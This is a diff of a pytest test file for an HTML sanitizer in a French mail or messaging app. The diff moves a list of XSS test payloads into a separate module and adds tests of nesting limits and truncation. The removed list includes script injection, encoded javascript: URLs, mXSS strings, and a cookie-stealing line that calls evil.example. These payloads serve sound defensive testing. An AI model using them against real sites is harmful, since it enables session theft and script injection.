@@ -10,85 +10,25 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from app.message.html import sanitize, text_to_html, to_text
+from app.message.html import (
+    _CLEANER as nh3_only_cleaner,
+)
+from app.message.html import (
+    LONG_RUN,
+    MAX_DEPTH,
+    MAX_INDENT,
+    MAX_SHOWN,
+    MAX_TABLE_DEPTH,
+    MAX_TABLES,
+    full_text,
+    sanitize,
+    text_to_html,
+    to_text,
+    viewable,
+)
+from tests.app.html_corpus import DEEP, HOSTILE
 
-HOSTILE = [
-    # scripts in every disguise
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<script/xss src='//evil.example/x.js'></script>",
-    '<<script>alert("x");//<</script>',
-    "<div><script>document.write('<img src=http://evil.example/c?'+document.cookie+'>')</script></div>",
-    # javascript: URLs in many encodings
-    '<a href="javascript:alert(1)">x</a>',
-    '<a href="JaVaScRiPt:alert(1)">x</a>',
-    '<a href=" javascript:alert(1)">x</a>',
-    '<a href="jav&#x09;ascript:alert(1)">x</a>',
-    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
-    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
-    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
-    '<a href="javascript&colon;alert(1)">x</a>',
-    '<a href="vbscript:msgbox(1)">x</a>',
-    '<img src="javascript:alert(1)">',
-    "<img src=`javascript:alert(1)`>",
-    # event handlers
-    "<img src=x onerror=alert(1)>",
-    "<body onload=alert(1)>",
-    '<div onmouseover="alert(1)">survol</div>',
-    "<svg/onload=alert(1)>",
-    '<p ONCLICK="alert(1)">p</p>',
-    # remote images and CSS
-    '<img src="http://tracker.example/pixel.gif">',
-    '<img src="https://tracker.example/pixel.gif" width="1" height="1">',
-    '<img src="//tracker.example/pixel.gif">',
-    '<img src="ftp://tracker.example/p.gif">',
-    '<img srcset="http://evil.example/a.png 1x, https://evil.example/b.png 2x">',
-    '<picture><source srcset="https://evil.example/a.webp"><img src="cid:a"></picture>',
-    '<div style="background:url(http://evil.example/bg.png)">bg</div>',
-    "<div style=\"background-image: url('//evil.example/x')\">bg</div>",
-    '<div style="width: expression(alert(1))">ie</div>',
-    "<style>@import url(http://evil.example/x.css); body{background:url(https://e.example/b)}</style>",
-    '<link rel="stylesheet" href="http://evil.example/x.css">',
-    '<table background="http://evil.example/t.png"><tr><td background="https://e.example/t">c</td></tr></table>',
-    '<body background="http://evil.example/b.png">',
-    '<video poster="http://evil.example/p.png" src="http://evil.example/v.mp4"></video>',
-    '<audio src="https://evil.example/a.mp3"></audio>',
-    '<input type="image" src="http://evil.example/i.png">',
-    # SVG with scripts
-    '<svg><script>alert(1)</script><image href="http://evil.example/s.png"/></svg>',
-    '<svg><a xlink:href="javascript:alert(1)"><text>t</text></a></svg>',
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    # forms
-    '<form action="http://evil.example/steal"><input name="pw"><button>OK</button></form>',
-    '<button formaction="javascript:alert(1)">b</button>',
-    "<textarea>secret</textarea><select><option>o</option></select>",
-    # frames, objects, embeds, base, meta
-    '<iframe src="http://evil.example/"></iframe>',
-    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-    '<object data="http://evil.example/x.swf"></object>',
-    '<embed src="http://evil.example/x.swf">',
-    '<base href="http://evil.example/">',
-    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
-    '<frameset><frame src="http://evil.example/"></frameset>',
-    # data: URLs
-    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
-    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
-    '<img src="data:image/png;base64,iVBORw0KGgo=">',
-    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
-    # mXSS classics
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
-    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
-    "<xmp><img src=x onerror=alert(1)></xmp>",
-    "<template><img src=x onerror=alert(1)></template>",
-    '<a href="http://ok.example" title="http://evil.example/t">ok</a>',
-    "<!--<img src=x onerror=alert(1)>-->",
-    '<img alt="x" src="cid:logo@example" onerror="alert(1)">',
-    # deep nesting
-    "<div>" * 10_000 + "profond" + "</div>" * 10_000,
-    "<b><i>" * 3000 + "x",
-]
+nh3_only = nh3_only_cleaner.clean  # the sanitiser's policy without the nesting bounds
 
 _REMOTE_VALUE = re.compile(r"(?i)(?:https?:|ftp:|^\s*//|url\()")
 _FORBIDDEN_TAGS = {
@@ -142,10 +82,143 @@ def test_hostile_corpus_comes_out_harmless(source: str) -> None:
     assert sanitize(output) == output
 
 
-def test_deep_nesting_keeps_the_text() -> None:
-    output = sanitize("<div>" * 10_000 + "profond" + "</div>" * 10_000)
-    assert "profond" in output
-    assert "profond" in to_text("<div>" * 10_000 + "profond" + "</div>" * 10_000)
+class _Nesting(HTMLParser):
+    """Depth of a sanitised body as a browser builds it (sanitize closes every element)."""
+
+    VOID = frozenset({"br", "col", "hr", "img"})
+
+    def __init__(self, source: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.open: list[str] = []
+        self.depth = self.table_depth = self.tables = self.indent = 0
+        self.text_in: list[tuple[str, str | None]] = []  # (text, innermost element)
+        self.feed(source)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag in self.VOID:
+            return
+        self.open.append(tag)
+        self.depth = max(self.depth, len(self.open))
+        self.tables += tag == "table"
+        self.table_depth = max(self.table_depth, self.open.count("table"))
+        self.indent = max(self.indent, sum(t in ("blockquote", "ol", "ul") for t in self.open))
+
+    def handle_endtag(self, tag: str) -> None:
+        if tag not in self.VOID:
+            assert self.open.pop() == tag  # well formed: what Qt gets is unambiguous
+
+    def handle_data(self, data: str) -> None:
+        if data.strip():
+            self.text_in.append((data, self.open[-1] if self.open else None))
+
+
+@pytest.mark.parametrize("name", DEEP)
+def test_deep_nesting_is_flattened_past_the_limits_and_its_text_kept(name: str) -> None:
+    output = sanitize(DEEP[name])
+    nesting = _Nesting(output)
+    assert 0 < nesting.depth <= MAX_DEPTH
+    assert nesting.table_depth <= MAX_TABLE_DEPTH
+    assert nesting.indent <= MAX_INDENT
+    assert "profond" in to_text(output)
+    assert len(output) < 2 * len(DEEP[name])  # nothing multiplied on the way
+    assert sanitize(output) == output
+    _harmless(output)
+
+
+def test_nesting_within_the_limits_is_kept_as_it_is() -> None:
+    source = "<div>" * (MAX_DEPTH - 1) + "<p>fond</p>" + "</div>" * (MAX_DEPTH - 1)
+    output = sanitize(source)
+    assert output == source
+    assert _Nesting(output).depth == MAX_DEPTH
+
+
+def test_text_of_flattened_blocks_keeps_its_lines_and_lands_in_a_kept_block() -> None:
+    source = "<div>" * (MAX_DEPTH + 10) + "<p>un</p><p>deux</p><ul><li>trois</li></ul>"
+    output = sanitize(source)
+    assert "un<br>deux<br>trois" in output
+    assert to_text(output) == "un\ndeux\ntrois"
+    assert {inner for _, inner in _Nesting(output).text_in} == {"div"}
+
+
+def test_a_table_or_list_is_kept_only_with_room_for_its_cells_or_items() -> None:
+    """At the depth limit a table (or a list) whose cells would fall past it is dropped whole:
+    its text then lands in the enclosing block, never alone in a row."""
+    for inner in ("<table><tr><td>cellule</td></tr></table>", "<ul><li>item</li></ul>"):
+        for depth in range(MAX_DEPTH - 4, MAX_DEPTH + 1):
+            output = sanitize("<div>" * depth + inner + "</div>" * depth)
+            nesting = _Nesting(output)
+            assert nesting.depth <= MAX_DEPTH
+            [(text, holder)] = nesting.text_in
+            assert text in ("cellule", "item")
+            assert holder in ("td", "li", "div"), (inner, depth, output)
+
+
+def test_tables_nested_past_the_limit_flow_into_their_cell() -> None:
+    source = "cellule 0"
+    for level in range(1, 11):
+        source = f"<table><tr><td>cellule {level}</td><td>{source}</td></tr></table>"
+    nesting = _Nesting(sanitize(source))
+    assert nesting.table_depth == MAX_TABLE_DEPTH
+    assert sorted(text for text, _ in nesting.text_in) == sorted(f"cellule {n}" for n in range(11))
+    assert {holder for _, holder in nesting.text_in} == {"td"}
+
+
+def test_quotes_past_max_indent_keep_their_text_on_their_own_lines() -> None:
+    """Each reply quoting the one before: past MAX_INDENT quotes Qt would leave no width."""
+    thread = "".join(f"<div><p>Réponse {n}</p><blockquote>" for n in range(20)) + "Origine"
+    output = sanitize(thread)
+    assert _Nesting(output).indent == MAX_INDENT
+    lines = [line for line in to_text(output).split("\n") if line]
+    assert lines == [f"Réponse {n}" for n in range(20)] + ["Origine"]
+
+
+def test_past_max_tables_the_next_ones_are_flattened() -> None:
+    source = "".join(f"<table><tr><td>t{n}</td><td>u{n}</td></tr></table>" for n in range(150))
+    output = sanitize(source)
+    assert _Nesting(output).tables == MAX_TABLES
+    text = to_text(output)
+    assert all(f"t{n}" in text and f"u{n}" in text for n in range(150))
+
+
+def test_html_closes_what_it_implies_and_ignores_end_tags_out_of_scope() -> None:
+    """Elements are written closed, where HTML would close them: unclosed paragraphs, items and
+    cells stay siblings (not 64 levels deep), and an end tag that HTML ignores (a </div> inside a
+    cell of a table inside that div) does not close the table early."""
+    source = (
+        "<p>un<p>deux<ul><li>a<li>b</ul><table><tr><td>1<td>2<tr><td>3</table>"
+        "<div><table><tr><td>c</div>d</td><td>e</td></tr></table>f</div>g"
+    )
+    assert sanitize(source) == (
+        "<p>un</p><p>deux</p><ul><li>a</li><li>b</li></ul><table><tbody><tr><td>1</td>"
+        "<td>2</td></tr><tr><td>3</td></tr></tbody></table><div><table><tbody><tr><td>cd</td>"
+        "<td>e</td></tr></tbody></table>f</div>g"
+    )
+    many = "<p>paragraphe" * 500 + "<ul>" + "<li>item" * 500 + "</ul>"
+    output = sanitize(many)
+    assert _Nesting(output).depth == 2
+    assert output.count("<p>") == 500
+    assert output.count("<li>") == 500
+
+
+_soup = st.sampled_from(
+    ["<div>", "</div>", "<table>", "</table>", "<tr>", "<td>", "</td>", "<ul>", "<ol>", "<li>",
+     "</li>", "<b>", "</b>", "<p>", "</p>", "<blockquote>", "<!--", "-->", "<i>", "</ul>",
+     "<caption>", "<span>", "</span>", "<thead>", "<a href='https://e.example'>", "</a>", "mot"]
+)  # fmt: skip
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(_soup, max_size=600).map("".join))
+def test_random_nesting_stays_within_the_limits_and_keeps_its_text(source: str) -> None:
+    output = sanitize(source)
+    nesting = _Nesting(output)
+    assert nesting.depth <= MAX_DEPTH
+    assert nesting.table_depth <= MAX_TABLE_DEPTH
+    assert nesting.tables <= MAX_TABLES
+    assert nesting.indent <= MAX_INDENT
+    assert output.count("mot") == nh3_only(source).count("mot")  # the text nh3 keeps, kept
+    _harmless(output)
 
 
 def test_reading_structure_survives() -> None:
@@ -249,3 +322,52 @@ _pieces = st.sampled_from(
 @given(st.lists(_pieces, max_size=40).map("".join))
 def test_random_tag_soup_comes_out_harmless(source: str) -> None:
     _harmless(sanitize(source))
+
+
+# --- What the reader lays out -------------------------------------------------------------------
+
+
+def test_a_body_is_shown_whole_up_to_max_shown_characters_then_in_part() -> None:
+    short = viewable(None, "Bonjour Docteur,\nvoici le compte rendu.")
+    assert (short.html, short.truncated) == (
+        text_to_html("Bonjour Docteur,\nvoici le compte rendu."),
+        False,
+    )
+    lines = "\n".join(f"Ligne {n}" for n in range(100_000))
+    long = viewable(None, lines)
+    assert long.truncated
+    assert to_text(long.html) == lines[: lines.rfind("\n", 0, MAX_SHOWN)]  # whole lines
+    html = "<p>Résultat <b>normal</b>.</p>" * 20_000
+    cut = viewable(html, "")
+    assert cut.truncated
+    assert cut.html.startswith("<p>Résultat <b>normal</b>.</p>")
+    assert len(cut.html) < MAX_SHOWN + 100  # the cut elements closed again
+    assert _Nesting(cut.html).depth == 2
+    assert viewable(html[:MAX_SHOWN], "") == viewable(html[:MAX_SHOWN], "other")
+
+
+def test_runs_without_a_space_are_offered_a_break_every_long_run_outside_tags() -> None:
+    """Only text is touched: a long link keeps its address, an entity is never cut."""
+    word = "x" * (3 * LONG_RUN + 10)
+    link = "https://ars.example/" + "q" * 1500
+    html = f'<p>{word} <a href="{link}">lien</a> {"&amp;" * (LONG_RUN + 1)}</p>'
+    shown = viewable(html, "").html
+    assert f'href="{link}"' in shown
+    assert ("x" * LONG_RUN + "\u200b") * 3 + "x" * 10 + " " in shown
+    assert "&amp;" * LONG_RUN + "\u200b&amp;" in shown
+    text = viewable(None, word).html
+    assert text.count("\u200b") == 3
+    assert viewable(None, "x" * LONG_RUN).html.count("\u200b") == 0
+
+
+def test_full_text_is_the_senders_text_else_the_text_of_the_html() -> None:
+    assert full_text("<p>a</p>", "le texte") == "le texte"
+    assert full_text("<p>Bonjour</p><p>Docteur</p>", None) == "Bonjour\n\nDocteur"
+    assert full_text(None, None) == ""
+
+
+def test_an_address_at_the_end_of_a_long_word_is_still_linked() -> None:
+    """Addresses are looked for from the start of a run of name characters only."""
+    output = text_to_html("ref " + "a" * 5000 + "@labo.example fin")
+    assert output.count("<a ") == 1
+    assert f'href="mailto:{"a" * 5000}@labo.example"' in output
